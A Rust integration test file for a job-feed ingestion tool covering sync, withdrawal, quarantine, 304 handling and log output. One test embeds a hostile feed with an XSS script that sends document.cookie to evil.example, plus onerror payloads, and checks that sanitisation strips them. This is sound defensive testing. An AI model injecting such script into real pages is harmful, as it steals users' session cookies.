//! Partner feeds end to end: `relais sync <source> --json` and `relais offers` on a real SQLite
//! file, snapshot semantics (withdrawals, quarantine), conditional HTTP over loopback, and
//! hostile or oddly encoded feeds through the whole pipeline.

use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::sync::atomic::{AtomicU32, Ordering};

use relais_ingest::RunReportOutcome;
use relais_ingest::feeds::{FeedRunOptions, FeedSource, FeedSourceConfig};
use relais_model::{Offer, OfferKey, SourceId, WarningKind};
use relais_tests::{feed_fixture, relais_with_config, store};
use serde_json::Value;

/// Writes a configuration with one HelloWork source reading `feed`.
fn config_file(dir: &Path, feed: &Path) -> PathBuf {
    let path = dir.join("relais.toml");
    std::fs::write(
        &path,
        format!(
            "[storage]\ndata_dir = {:?}\n\n[francetravail]\nenabled = false\n\n[[sources]]\nid = \"hellowork\"\nname = \"HelloWork\"\nurl = {:?}\nformat = {{ type = \"xml\", preset = \"hellowork\" }}\n",
            dir.join("data"),
            feed
        ),
    )
    .unwrap();
    path
}

fn sync(config: &Path, extra: &[&str]) -> (i32, Value) {
    let mut args = vec!["sync", "hellowork", "--json"];
    args.extend_from_slice(extra);
    let (code, stdout, _) = relais_with_config(config, &args);
    let report: Value =
        serde_json::from_str(stdout.trim()).unwrap_or_else(|e| panic!("{e}: {stdout}"));
    (code, report)
}

fn active_offers(config: &Path) -> Vec<Offer> {
    let (code, stdout, _) =
        relais_with_config(config, &["offers", "--source", "hellowork", "--json"]);
    assert_eq!(code, 0);
    stdout
        .lines()
        .map(|line| serde_json::from_str::<Offer>(line).unwrap())
        .filter(|offer| offer.status.is_active())
        .collect()
}

/// The HelloWork sample keeping only the jobs whose ids are in `keep` (and cut after `cut_at`
/// bytes when given).
fn hellowork_feed(keep: &[&str]) -> String {
    let text = std::fs::read_to_string(feed_fixture("hellowork.xml")).unwrap();
    let (head, rest) = text.split_once("<job>").unwrap();
    let mut feed = head.to_owned();
    for job in rest.split("<job>") {
        let job = job.split("</job>").next().unwrap();
        if keep
            .iter()
            .any(|id| job.contains(&format!("<job_id><![CDATA[{id}]]></job_id>")))
        {
            feed.push_str(&format!("<job>{job}</job>\n"));
        }
    }
    feed.push_str("</root>\n");
    feed
}

const IDS: [&str; 5] = ["68087320", "68090104", "68110296", "68111676", "68113693"];

#[test]
fn a_feed_is_synced_listed_withdrawn_and_quarantined_through_the_cli() {
    let dir = tempfile::tempdir().unwrap();
    let feed = dir.path().join("hellowork.xml");
    std::fs::write(&feed, hellowork_feed(&IDS)).unwrap();
    let config = config_file(dir.path(), &feed);

    let (code, report) = sync(&config, &[]);
    assert_eq!(code, 0, "{report}");
    for (key, value) in [
        ("fetched", 5),
        ("new", 5),
        ("changed", 0),
        ("unchanged", 0),
        ("withdrawn", 0),
    ] {
        assert_eq!(report[key], value, "{key}: {report}");
    }
    assert_eq!(report["source"], "hellowork");
    assert_eq!(report["outcome"], "complete");
    assert!(
        report["warnings"].as_object().unwrap().is_empty(),
        "{report}"
    );
    let offers = active_offers(&config);
    assert_eq!(offers.len(), 5);
    assert!(
        offers
            .iter()
            .all(|o| o.key.source().as_str() == "hellowork")
    );

    // Unchanged file: nothing is read again.
    let (code, report) = sync(&config, &[]);
    assert_eq!(
        (code, &report["outcome"], &report["not_modified"]),
        (0, &Value::from("complete"), &Value::from(true))
    );
    assert_eq!(report["new"], 0);

    // One offer gone (20 %): a dry run says what would happen and writes nothing.
    std::fs::write(&feed, hellowork_feed(&IDS[..4])).unwrap();
    let (code, report) = sync(&config, &["--dry-run"]);
    assert_eq!(code, 0, "{report}");
    assert_eq!(
        (
            report["withdrawn"].as_u64(),
            report["unchanged"].as_u64(),
            report["dry_run"].as_bool()
        ),
        (Some(1), Some(4), Some(true))
    );
    assert_eq!(active_offers(&config).len(), 5);
    let (code, report) = sync(&config, &[]);
    assert_eq!(
        (code, report["withdrawn"].as_u64()),
        (0, Some(1)),
        "{report}"
    );
    assert_eq!(active_offers(&config).len(), 4);

    // Half of the offers gone: quarantined, nothing withdrawn, the report says why.
    std::fs::write(&feed, hellowork_feed(&IDS[..2])).unwrap();
    let (code, report) = sync(&config, &[]);
    assert_eq!(code, 1);
    assert_eq!(report["outcome"], "quarantined", "{report}");
    assert_eq!(report["withdrawn"], 0);
    assert!(
        report["quarantine_reason"]
            .as_str()
            .unwrap()
            .contains("2 offers against 4"),
        "{report}"
    );
    assert_eq!(active_offers(&config).len(), 4);

    // Truncated mid-file: quarantined too, even though it is not smaller.
    let full = hellowork_feed(&IDS[..4]);
    std::fs::write(&feed, &full[..full.len() * 3 / 4]).unwrap();
    let (code, report) = sync(&config, &[]);
    assert_eq!(
        (code, &report["outcome"]),
        (1, &Value::from("quarantined")),
        "{report}"
    );
    assert!(
        report["quarantine_reason"]
            .as_str()
            .unwrap()
            .contains("truncated"),
        "{report}"
    );
    assert_eq!(active_offers(&config).len(), 4);

    // The operator confirms the board really shrank.
    std::fs::write(&feed, hellowork_feed(&IDS[..2])).unwrap();
    let (code, report) = sync(&config, &["--accept-shrink"]);
    assert_eq!(
        (code, report["withdrawn"].as_u64()),
        (0, Some(2)),
        "{report}"
    );
    // Withdrawal is reversible: the offers come back with the feed.
    std::fs::write(&feed, hellowork_feed(&IDS)).unwrap();
    let (_, report) = sync(&config, &[]);
    assert_eq!(report["reactivated"], 3, "{report}");
    assert_eq!(active_offers(&config).len(), 5);

    let (code, _, _) = relais_with_config(&config, &["sync", "nope", "--json"]);
    assert_ne!(code, 0);
}

fn source_config(id: &str, url: &str, format: &str) -> FeedSourceConfig {
    let text = format!("id = \"{id}\"\nurl = \"{url}\"\nformat = {format}\n");
    toml_config(&text)
}

fn toml_config(text: &str) -> FeedSourceConfig {
    toml::from_str(text).expect("source configuration")
}

#[tokio::test]
async fn an_unchanged_http_feed_costs_one_304() {
    let good = std::fs::read(feed_fixture("jooble.xml")).unwrap();
    // A later version with one more job, cut before its end.
    let cut = {
        let text = String::from_utf8(good.clone()).unwrap();
        let extra = "<job><guid>extra-1</guid><referencenumber>extra-1</referencenumber><title>Plombier</title>\
                     <region><city>Cahors, Lot</city></region></job>";
        text.replace(
            "</jobs>",
            &format!("{extra}\n<job><guid>extra-2</guid><tit"),
        )
    };
    let versions = Arc::new([good, cut.into_bytes()]);
    let version = Arc::new(AtomicU32::new(0));
    let calls = Arc::new(AtomicU32::new(0));
    let app = {
        let (versions, version, calls) = (versions.clone(), version.clone(), calls.clone());
        axum::Router::new().route(
            "/feed.xml",
            axum::routing::get(move |headers: axum::http::HeaderMap| {
                let (versions, version, calls) = (versions.clone(), version.clone(), calls.clone());
                async move {
                    calls.fetch_add(1, Ordering::SeqCst);
                    let current = version.load(Ordering::SeqCst);
                    let etag = format!("\"v{current}\"");
                    if headers.get("if-none-match").and_then(|v| v.to_str().ok())
                        == Some(etag.as_str())
                    {
                        return axum::response::Response::builder()
                            .status(304)
                            .body(axum::body::Body::empty())
                            .unwrap();
                    }
                    // Compressed, as boards serve large feeds.
                    let mut gz =
                        flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
                    std::io::Write::write_all(&mut gz, &versions[current as usize]).unwrap();
                    axum::response::Response::builder()
                        .header("etag", etag)
                        .body(axum::body::Body::from(gz.finish().unwrap()))
                        .unwrap()
                }
            }),
        )
    };
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });

    let (dir, store) = store().await;
    let jooble = SourceId::parse("jooble").unwrap();
    let config = source_config(
        "jooble",
        &format!("http://{address}/feed.xml"),
        r#"{ type = "xml", preset = "jooble" }"#,
    );
    let source = FeedSource::new(config, store.clone(), dir.path().join("downloads")).unwrap();
    let first = source.run(FeedRunOptions::default()).await.unwrap();
    assert_eq!(
        (first.outcome, first.new),
        (RunReportOutcome::Complete, 2),
        "{first:?}"
    );
    let second = source.run(FeedRunOptions::default()).await.unwrap();
    assert!(second.not_modified, "{second:?}");
    assert_eq!(
        (second.outcome, second.fetched),
        (RunReportOutcome::Complete, 0)
    );
    assert_eq!(calls.load(Ordering::SeqCst), 2);
    // The download was removed once read.
    assert_eq!(
        std::fs::read_dir(dir.path().join("downloads"))
            .unwrap()
            .count(),
        0
    );

    // A cut version: quarantined, its complete new job stored, nothing withdrawn.
    version.store(1, Ordering::SeqCst);
    let cut = source.run(FeedRunOptions::default()).await.unwrap();
    assert_eq!(
        (cut.outcome, cut.new, cut.withdrawn),
        (RunReportOutcome::Quarantined, 1, 0),
        "{cut:?}"
    );
    assert_eq!(store.source_counts(&jooble).await.unwrap().active, 3);
    // Back to the last good version: it is read again (not taken as unchanged), and the job
    // only the cut version had is withdrawn. (A sweep keeps what was seen at or after its start,
    // by the millisecond: two runs a millisecond apart happen only in tests.)
    tokio::time::sleep(std::time::Duration::from_millis(5)).await;
    version.store(0, Ordering::SeqCst);
    let back = source.run(FeedRunOptions::default()).await.unwrap();
    assert!(!back.not_modified, "{back:?}");
    assert_eq!(
        (back.outcome, back.withdrawn),
        (RunReportOutcome::Complete, 1),
        "{back:?}"
    );
    assert_eq!(store.source_counts(&jooble).await.unwrap().active, 2);

    // An outage fails the run and withdraws nothing.
    let gone = source_config(
        "jooble",
        "http://127.0.0.1:9/feed.xml?key=S3CRET-KEY",
        r#"{ type = "xml", preset = "jooble" }"#,
    );
    let report = FeedSource::new(gone, store.clone(), dir.path().join("downloads"))
        .unwrap()
        .run(FeedRunOptions::default())
        .await
        .unwrap();
    assert_eq!(
        (report.outcome, report.withdrawn),
        (RunReportOutcome::Failed, 0)
    );
    let error = report.error.unwrap();
    assert!(error.contains("127.0.0.1:9/feed.xml"), "{error}");
    // An API key in the feed's URL never reaches reports or logs.
    assert!(!error.contains("S3CRET"), "{error}");
    assert_eq!(store.source_counts(&jooble).await.unwrap().active, 2);
}

#[tokio::test]
async fn a_hostile_windows_1252_feed_is_stored_clean() {
    let (dir, store) = store().await;
    let feed = dir.path().join("mairie.xml");
    let mut bytes = b"<?xml version=\"1.0\" encoding=\"Windows-1252\"?>\n<offres><offre id=\"RH-1\"><intitule>Agent d'entretien \x96 r\xe9gie</intitule>".to_vec();
    bytes.extend_from_slice(b"<texte><![CDATA[<p onclick=\"x()\">Entretien des b\xe2timents</p><script>document.location='https://evil.example/?'+document.cookie</script><img src=\"https://tracker.example/p.gif\" onerror=\"alert(1)\"><p>Salaire : 1\xa0900 \x80</p>]]></texte>");
    bytes.extend_from_slice(b"<commune>46042</commune></offre></offres>");
    std::fs::write(&feed, bytes).unwrap();
    let config = toml_config(&format!(
        "id = \"mairie\"\nurl = {:?}\n[format]\ntype = \"xml\"\n[format.mapping]\nrecord = \"offre\"\nid = \"@id\"\ntitle = \"intitule\"\ndescription = \"texte\"\ninsee = \"commune\"\n",
        feed
    ));
    let source = FeedSource::new(config, store.clone(), dir.path().join("downloads")).unwrap();
    let report = source.run(FeedRunOptions::default()).await.unwrap();
    assert_eq!(
        (report.outcome, report.new),
        (RunReportOutcome::Complete, 1),
        "{report:?}"
    );
    assert_eq!(report.warnings.get("unsafe_content"), Some(&1));
    let key = OfferKey::new(SourceId::parse("mairie").unwrap(), "RH-1").unwrap();
    let offer = store.offer(&key).await.unwrap().unwrap();
    assert_eq!(offer.title, "Agent d'entretien – régie");
    let html = offer.description_html.unwrap();
    for forbidden in [
        "script", "onclick", "onerror", "img", "evil", "tracker", "cookie",
    ] {
        assert!(!html.contains(forbidden), "`{forbidden}` in {html}");
    }
    assert!(offer.description.contains("Entretien des bâtiments"));
    assert!(
        offer.description.contains("1\u{a0}900 €") || offer.description.contains("1 900 €"),
        "{}",
        offer.description
    );
    assert_eq!(offer.location.commune.unwrap().as_str(), "46042");
    assert!(
        offer
            .warnings
            .iter()
            .any(|w| w.kind == WarningKind::UnsafeContent)
    );
    // The raw record is kept as the board sent it, for audit.
    let raw = store.raw_payload(&key).await.unwrap().unwrap();
    assert!(raw.contains("<script>"));
}

#[test]
fn a_run_logs_in_json_within_its_run_span() {
    let dir = tempfile::tempdir().unwrap();
    let config = config_file(dir.path(), &feed_fixture("hellowork.xml"));
    let output = std::process::Command::new(relais_tests::relais_binary())
        .args(["--config", &config.display().to_string()])
        .args(["--log-format", "json", "sync", "hellowork", "--json"])
        .env("RELAIS_LOG", "info")
        .output()
        .unwrap();
    assert!(output.status.success());
    let lines: Vec<Value> = String::from_utf8_lossy(&output.stderr)
        .lines()
        .map(|line| serde_json::from_str(line).unwrap_or_else(|e| panic!("{e}: {line}")))
        .collect();
    let complete = lines
        .iter()
        .find(|line| line["fields"]["message"] == "feed run complete")
        .unwrap_or_else(|| panic!("no completion line in {lines:?}"));
    assert_eq!(complete["span"]["name"], "run", "{complete}");
    assert_eq!(complete["span"]["source"], "hellowork");
    assert_eq!(complete["span"]["kind"], "feed");
}
